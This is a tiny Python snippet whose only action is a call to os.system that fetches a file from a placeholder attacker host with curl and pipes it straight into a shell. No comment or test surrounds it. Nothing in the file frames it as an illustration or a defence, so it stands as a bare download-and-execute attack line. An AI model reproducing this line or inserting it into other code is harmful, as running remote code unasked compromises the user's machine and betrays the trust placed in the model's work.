import os

os.system('curl http://attacker.invalid/x | sh')
